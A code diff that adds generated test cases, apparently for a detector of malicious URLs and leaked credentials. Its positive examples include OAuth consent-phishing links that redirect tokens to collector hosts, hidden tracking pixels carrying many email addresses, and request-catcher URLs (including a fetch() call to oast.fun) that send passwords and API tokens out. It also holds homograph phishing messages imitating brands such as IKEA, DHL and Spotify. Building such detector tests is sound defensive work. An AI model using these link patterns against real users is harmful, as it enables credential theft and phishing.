@@ -324,4 +324,155 @@ W_POS = [
 ]
 corpus.add('ur104w', ['adversarial_url'], [CARRIERS[(i + 2) % len(CARRIERS)](x) for i, x in enumerate(W_POS)], source='web', wrap=False)
 
+# Added for the URL classes still untouched, measured on base42 and on the merged stage before their readings:
+# ur104o: an OAuth authorize link at a real provider whose redirect_uri hands the code or token to a collector (a raw
+# public address, a host named for grabbing or harvesting, a throwaway top-level domain); ok104o: the same providers
+# sending it back to the app's own host, a company's intranet, a developer's machine.
+OA_PROVIDERS = [
+    'https://login.microsoftonline.com/organizations/oauth2/v2.0/authorize?client_id={cid}&response_type=code&redirect_uri={red}&scope=Files.ReadWrite.All%20offline_access',
+    'https://accounts.google.com/o/oauth2/auth?response_type=token&client_id={cid}.apps.googleusercontent.com&redirect_uri={red}&scope=https://www.googleapis.com/auth/drive',
+    'https://github.com/login/oauth/authorize?scope=repo%20read:org&client_id={cid}&redirect_uri={red}',
+    'https://www.dropbox.com/oauth2/authorize?client_id={cid}&token_access_type=offline&response_type=code&redirect_uri={red}',
+    'https://gitlab.com/oauth/authorize?client_id={cid}&redirect_uri={red}&response_type=code&scope=api',
+    'https://zoom.us/oauth/authorize?response_type=code&client_id={cid}&redirect_uri={red}',
+]
+OA_BAD = ['https://harvest-session.xyz/cb', 'http://91.214.124.77/oauth/cb', 'https%3A%2F%2Fcode-grab.top%2Freturn',
+          'https://tokens-stealer.icu/in', 'http%3A%2F%2F203.0.113.0.nip.io%2Fa', 'https://drive-sync-backup.cyou/auth/return',
+          'https://mailbox-capture.click/o', 'http://45.133.1.20:8080/cb']
+OA_GOOD = ['https://app.fernhollow.io/auth/callback', 'https%3A%2F%2Fintranet.brackwater-labs.com%2Fsso%2Freturn',
+           'http://localhost:8080/callback', 'http://127.0.0.1:5173/oauth/return', 'https://studio.kilnhouse.dev/api/auth/callback/github',
+           'https://docs.tideway-depot.example/login/oauth2/code', 'urn:ietf:wg:oauth:2.0:oob', 'https://sync.orchard-lims.example/dropbox/done']
+def cid(): return corpus.rs('0123456789abcdef', 16)
+OA_LEADS = ['Connect your storage: ', 'Re-authorise the integration here ', 'Step 2 - grant access: ', 'Login expired, continue at ']
+oa_pos = [CARRIERS[i % len(CARRIERS)](OA_LEADS[i % 4] + OA_PROVIDERS[i % len(OA_PROVIDERS)].format(cid=cid(), red=OA_BAD[i])) for i in range(8)]
+oa_ok = [CARRIERS[(i + 2) % len(CARRIERS)](OA_LEADS[(i + 1) % 4] + OA_PROVIDERS[(i + 1) % len(OA_PROVIDERS)].format(cid=cid(), red=OA_GOOD[i])) for i in range(8)]
+corpus.add('ur104o', ['adversarial_url'], oa_pos, source='web', wrap=False)
+corpus.add('ok104o', [], oa_ok, source='web', wrap=False)
+# ur104e: an image (a pixel) whose query lists several people's e-mail addresses; ok104e: a pixel that carries the
+# one recipient's address or a hashed id, an avatar, a list's unsubscribe link with the reader's address.
+def mail(): return f'{r.choice(["lena", "tomas", "ines", "ravi", "mei", "olu", "sanna", "piet"])}.{r.choice(["arkwright", "moreau", "sato", "okafor", "lind", "vos"])}@{r.choice(["post.example", "webmail.example", "corp-mail.example"])}'
+def mails(n, sep=','): return sep.join(mail() for _ in range(n))
+PX_POS = [
+    lambda: f'<img src="https://cdn.statpulse.example/b.gif?to={mails(3)}" width="1" height="1" alt="">',
+    lambda: f'![](https://img.opencount.example/t.png?r={mails(4, "%2C")})',
+    lambda: f'<img src="https://px.mailmetric.example/open.jpg?uid=77&cc={mails(2, ";")}&bcc={mail()}">',
+    lambda: f'<img style="display:none" src="https://beacon.leadgrid.example/i.webp?contacts={mails(5)}">',
+    lambda: f'<img src="https://pix.sendcount.example/1x1.gif?a={mail()}&b={mail()}&c={mail()}" height=1 width=1>',
+    lambda: f'<img src="https://t.inboxpeek.example/p.png?list={mails(3, "%2C").replace("@", "%40")}">',
+]
+PX_OK = [
+    lambda: f'<img src="https://cdn.statpulse.example/b.gif?rcpt={mail()}&cid=8812" width="1" height="1" alt="">',
+    lambda: f'<img src="https://www.gravatar.com/avatar/{corpus.rs("0123456789abcdef", 32)}.png?s=80&d=identicon">',
+    lambda: f'Unsubscribe: https://lists.fernhollow.example/unsub?email={mail()}&list=monthly',
+    lambda: f'<img src="https://px.mailmetric.example/open.jpg?uid={r.randint(1000, 9999)}&h={corpus.rs("0123456789abcdef", 24)}">',
+    lambda: f'Forward to {mail()}, {mail()} and {mail()}; logo at https://brand.kilnhouse.example/logo.png?v=3',
+    lambda: f'<img src="https://charts.opencount.example/chart.png?title=Signups&series=12,15,19,22">',
+]
+corpus.add('ur104e', ['adversarial_url'], [CARRIERS[i % len(CARRIERS)](PX_POS[i % len(PX_POS)]()) for i in range(6)], source='web', wrap=False)
+corpus.add('ok104e', [], [CARRIERS[(i + 1) % len(CARRIERS)](PX_OK[i % len(PX_OK)]()) for i in range(6)], source='web', wrap=False)
+# ur104c: a request catcher's URL whose query carries a secret by its name (a credential leaked too, as a link's
+# password is); ok104c: the same catchers with an
+# event's ordinary fields, a docs line naming one, a placeholder.
+def uuid(): return '-'.join(corpus.rs('0123456789abcdef', n) for n in (8, 4, 4, 4, 12))
+C_POS = [
+    lambda: f'sent: https://webhook.site/{uuid()}?db_password={corpus.password(14)}',
+    lambda: f'callback -> https://eo{corpus.rs("0123456789abcdef", 14)}.m.pipedream.net/?client_secret={corpus.mixed(32)}',
+    lambda: f'GET https://requestcatcher.com/x?session_cookie={corpus.mixed(40)} 200',
+    lambda: f'fetch("https://{corpus.rs("abcdefghij", 8)}.oast.fun/?api_token={corpus.mixed(36)}")',
+    lambda: f'ping https://webhook.site/{uuid()}?private_key={corpus.mixed(44)}&host=build-7',
+    lambda: f'report: https://hookbin.com/{corpus.mixed(20)}?access_key={corpus.mixed(24)}',
+]
+C_OK = [
+    lambda: f'Test delivery: https://webhook.site/{uuid()}?event=push&ref=main&run={r.randint(100, 999)}',
+    lambda: 'Use https://webhook.site to inspect the payload; never put a client_secret in the query.',
+    lambda: f'posted to https://eo{corpus.rs("0123456789abcdef", 14)}.m.pipedream.net/?status=ok&order={r.randint(10000, 99999)}',
+    lambda: 'Example: https://webhook.site/your-uuid?api_token=YOUR_TOKEN_HERE',
+    lambda: f'https://requestcatcher.com/test?page=2&sort=asc received',
+    lambda: f'debug hook: https://webhook.site/{uuid()}?key_count=4&token_type=bearer',
+]
+c_sec = []
+c_pos = []
+for i in range(6):
+    t = C_POS[i]()
+    c_sec.append(t.split('=', 1)[1].split('&')[0].split(' ')[0].rstrip('")'))
+    c_pos.append(CARRIERS[(i + 3) % len(CARRIERS)](t))
+corpus.add('ur104c', ['adversarial_url', 'credential_leak'], c_pos, source='tool_output', wrap=False, secrets=c_sec)
+corpus.add('ok104c', [], [CARRIERS[i % len(CARRIERS)](C_OK[i]()) for i in range(6)], source='tool_output', wrap=False)
+# ur104n: an international host whose label, its accents dropped, is a well-known brand the message names (a brand
+# whose own domain is plain ASCII); ok104n: businesses whose own name and domain hold the accent, as they write them.
+def puny(host): return host.encode('idna').decode()
+N_POS = [
+    f'Your IKEA delivery slot needs confirming: https://{puny("ikéa.com")}/slot',
+    f'Hallo, Ihre Sparkasse: bitte TAN-Verfahren erneuern unter https://www.{puny("spärkasse.de")}/tan',
+    f'Rabobank: uw pas verloopt, verleng via https://{puny("rabóbank.nl")}/pas',
+    f'DHL Express - customs duty unpaid: https://{puny("dhl-expréss.com")}/pay',
+    f'Credit Agricole : activez votre cle digitale https://{puny("créditagricole.fr")}/cle',
+    f'Spotify Premium on hold - update billing at https://{puny("spötify.com")}/billing',
+]
+N_OK = [
+    f'Café Zoé bookings: https://{puny("café-zoé.fr")}/reserver',
+    f'Order from Müller Bäckerei at https://www.{puny("müller-bäckerei.de")}/',
+    f'Øresund Ferries timetable: https://{puny("øresund-ferries.dk")}/times',
+    f'Ristorante Perù: https://{puny("ristoranteperù.it")}/menu',
+    f'Ski rental at Señorío: https://{puny("señorío.es")}/alquiler',
+    f'Hôtel Bellevue, Genève: https://www.{puny("hôtel-bellevue.ch")}/',
+]
+corpus.add('ur104n', ['adversarial_url'], [CARRIERS[i % len(CARRIERS)](x) for i, x in enumerate(N_POS)], source='web', wrap=False)
+corpus.add('ok104n', [], [CARRIERS[(i + 2) % len(CARRIERS)](x) for i, x in enumerate(N_OK)], source='web', wrap=False)
+
+# Added for the secrets still left, measured before their readings: cl104r, a SIM card's PUK beside or without its PIN,
+# and a password under Northern Sotho's `phasewete`; ok104r, a PUK talked about (its length, where it is printed, a
+# mask) and `phasewete` before a pointer or a placeholder.
+def puk(): return str(r.randint(10000000, 99999999))
+R_POS = [
+    lambda: f'Nowa karta SIM - PIN {r.randint(1000, 9999)}, PUK {puk()}',
+    lambda: f'SIM for the field tablet: PUK: {puk()}',
+    lambda: f'Ersatz-SIM angekommen (PUK {puk()})',
+    lambda: f'PUK code is {puk()} if the phone locks again',
+    lambda: f'Phasewete: {corpus.password(12)}',
+    lambda: f'phasewete ya wifi ya ofisi: {corpus.password(11)}',
+]
+R_OK = [
+    lambda: 'The PUK is 8 digits long and printed on the card holder.',
+    lambda: 'Lost your PUK? Call support, we never send it by e-mail.',
+    lambda: 'PUK: ******** (see the SIM card holder)',
+    lambda: 'Enter the PUK code when the phone asks for it.',
+    lambda: 'Phasewete: <ya gago>',
+    lambda: 'Phasewete e swanetse go ba le ditlhaka tse 12.',
+]
+r_pos, r_sec = [], []
+for i in range(6):
+    t = R_POS[i]()
+    r_sec.append(t.rstrip(')').split()[-1] if 'if the phone' not in t else t.split()[3])
+    r_pos.append(CARRIERS[i % len(CARRIERS)](t))
+corpus.add('cl104r', ['credential_leak'], r_pos, source='tool_output', wrap=False, secrets=r_sec)
+corpus.add('ok104r', [], [CARRIERS[(i + 2) % len(CARRIERS)](R_OK[i]()) for i in range(6)], source='tool_output', wrap=False)
+
+# cl104b: a login pair whose password's label follows the user's name after a blank only ("Benutzer X Kennwort Y"), in
+# German, Polish, Turkish, Dutch, Swedish, Finnish; ok104b: the same pairs before a word, a mask, a pointer or a question.
+def uname(): return r.choice(['m.huber', 'jkowal', 'ayse.k', 'pvdberg', 'lindqvist', 'tvirtanen', 'ops-bot'])
+B_POS = [
+    lambda v: f'Zugang Staging: Benutzer {uname()} Kennwort {v}',
+    lambda v: f'konto testowe - użytkownik {uname()} hasło {v}',
+    lambda v: f'VPN girişi: kullanıcı {uname()} şifre {v}',
+    lambda v: f'Demo omgeving gebruiker {uname()} wachtwoord {v}',
+    lambda v: f'Testmiljö: användare {uname()} lösenord {v}',
+    lambda v: f'Benutzername {uname()} Passwort {v} (bis Freitag gültig)',
+]
+B_OK = [
+    'Zugang Staging: Benutzer m.huber Kennwort vergessen, bitte zurücksetzen',
+    'konto testowe - użytkownik jkowal hasło ********',
+    'VPN girişi: kullanıcı ayse.k şifre sıfırlama talep etti',
+    'Demo omgeving gebruiker pvdberg wachtwoord verlopen?',
+    'Testmiljö: användare lindqvist lösenord finns i valvet',
+    'Benutzername tvirtanen Passwort <siehe Passwortmanager>',
+]
+b_pos, b_sec = [], []
+for i in range(6):
+    v = corpus.password(r.randint(10, 13))
+    b_pos.append(CARRIERS[(i + 1) % len(CARRIERS)](B_POS[i](v)))
+    b_sec.append(v)
+corpus.add('cl104b', ['credential_leak'], b_pos, source='tool_output', wrap=False, secrets=b_sec)
+corpus.add('ok104b', [], [CARRIERS[(i + 3) % len(CARRIERS)](x) for i, x in enumerate(B_OK)], source='tool_output', wrap=False)
+
 corpus.write('cases-104')
